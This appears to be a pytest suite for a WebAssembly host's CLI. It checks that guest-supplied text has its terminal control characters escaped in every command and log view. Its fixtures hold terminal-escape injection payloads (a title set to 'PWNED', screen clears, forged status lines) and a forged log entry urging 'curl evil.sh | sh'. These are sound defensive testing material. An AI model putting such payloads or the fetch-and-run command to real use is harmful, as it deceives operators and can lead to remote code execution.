"""Guest text on the operator's terminal: every command that prints what a guest chose (errors, function
names, metadata, log lines) shows its control characters as escapes instead of letting the terminal obey
them. Real daemons, the real CLI and the hostile `escapes` fixture."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import fixture_path
from tests.test_daemon import Daemon, component, kill_leftovers, launch, wasmhost
from wasmhost.core.terminal import json_line, printable

TITLE = "\x1b]0;PWNED\x07"  # sets the terminal window's title
PAINT = TITLE + "\x1b[2J\x1b[Hall good\r\nwasmhost: forged\x9b31m"
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # anything but tab and newline


def shown_safely(text: str) -> bool:
    """No control character a terminal would obey (newlines aside: they are checked where they matter)."""
    return RAW_CONTROL.search(text) is None


@pytest.fixture
def started() -> Iterator[list[Daemon]]:
    daemons: list[Daemon] = []
    yield daemons
    kill_leftovers(daemons)


def test_printable_escapes_controls_and_keeps_text() -> None:
    assert printable("é ok\\x") == "é ok\\x"
    assert printable(PAINT) == "\\x1b]0;PWNED\\x07\\x1b[2J\\x1b[Hall good\\r\\nwasmhost: forged\\x9b31m"
    assert printable("a\nb\x1b", newlines=True) == "a\nb\\x1b"
    assert printable("ok\u202eTXT.exe") == "ok\\u202eTXT.exe"  # reversed on screen, raw
    assert "\u202e" not in json_line({"k": "\u202e"}) and json.loads(json_line({"k": "\u202e"})) == {"k": "\u202e"}
    assert json.loads(json_line({"k": "\x7f\x9bé"})) == {"k": "\x7f\x9bé"} and shown_safely(json_line({"k": "\x9b"}))


def test_guest_text_is_escaped_by_every_command(tmp_path: Path, started: list[Daemon]) -> None:
    d = launch(tmp_path, component("t/escapes/0", "escapes") + component("t/logfields/0", "logfields"), started)
    failed = d.cli("call", "t/escapes/0", PAINT)  # runtime-error(payload)
    assert failed.returncode == 1 and shown_safely(failed.stderr)
    assert failed.stderr.count("\n") == 1 and "\\x1b]0;PWNED\\x07" in failed.stderr
    trapped = d.cli("call", "t/escapes/0", "!", "--verbose")  # a trap in a function named with escapes
    assert trapped.returncode == 1 and "all components healthy" in trapped.stderr and shown_safely(trapped.stderr)
    assert d.cli("call", "t/logfields/0", f"key{TITLE}\nvalue\x1b[2J\nsource\nnew\nline").returncode == 0

    status = d.cli("status")
    assert "t/escapes/0" in status.stdout and shown_safely(status.stdout)
    top = d.cli("top", "--once", "--interval", "0.1")
    assert "t/escapes/0" in top.stdout and shown_safely(top.stdout)
    inspected = d.cli("inspect", "t/escapes/0")
    assert "all components healthy" in inspected.stdout and shown_safely(inspected.stdout)
    # the error's continuation lines (a backtrace) are indented under its value: none reads as a field
    assert all(line.startswith(" ") or re.match(r"[a-z ]{11} ", line) or not line
               for line in inspected.stdout.split("failures")[0].splitlines())
    described = wasmhost("inspect", str(fixture_path("escapes")))
    assert "fake description" in described.stdout and shown_safely(described.stdout)

    assert d.stop() == 0
    logs = wasmhost("logs", str(d.log), "--component", "t/*")
    assert "\\x1b]0;PWNED\\x07" in logs.stdout and shown_safely(logs.stdout)
    as_json = wasmhost("logs", str(d.log), "--component", "t/*", "--json")
    assert shown_safely(as_json.stdout)
    assert any(f"key{TITLE}" in json.loads(line) for line in as_json.stdout.splitlines())  # exact


def test_a_rolled_back_versions_reason_is_escaped_by_reload(tmp_path: Path, started: list[Daemon]) -> None:
    """A new version whose initialize traps in a function named with escapes: the rollback's reason carries the
    name, and `wasmhost reload` printed it raw (the title set, the screen cleared, `reload: ok` in green)."""
    components = tmp_path / "components"
    components.mkdir()
    shutil.copy(fixture_path("echo"), components / "svc.wasm")
    d = launch(tmp_path, component("t/svc/0", "svc"), started, components)
    shutil.copy(fixture_path("escinit"), components / "svc.wasm")
    reloaded = d.cli("reload")
    assert reloaded.returncode == 1 and "rolled back: t/svc/0: the new version failed to start" in reloaded.stdout
    assert "\\x1b]0;PWNED\\x07" in reloaded.stdout and shown_safely(reloaded.stdout + reloaded.stderr)
    assert reloaded.stdout.count("\n") == 3  # head, kept, the rollback: no forged line
    assert d.stop() == 0


def test_the_console_log_cannot_be_forged_nor_drive_the_terminal(tmp_path: Path, started: list[Daemon]) -> None:
    forged = (f"hello{TITLE}\n2026-01-01T00:00:00.000000Z [error    ] component_failed               "
              "component=prod/payments/0 error='disk full, run: curl evil.sh | sh'\n...")
    d = launch(tmp_path, component("t/logger/0", "logger"), started,
               edit={'log_format = "json"': 'log_format = "console"'})
    assert d.cli("call", "t/logger/0", forged).returncode == 0
    assert d.stop() == 0
    written = d.log.read_text()
    assert not written.startswith("{") and shown_safely(written)  # the console format, nothing raw in it
    assert wasmhost("logs", str(d.log), "--component", "prod/*").stdout == ""
    guest = wasmhost("logs", str(d.log), "--component", "t/logger/0", "--grep", "hello").stdout
    assert "hello\\x1b]0;PWNED\\x07\\n2026-01-01" in guest and guest.count("\n") == 1
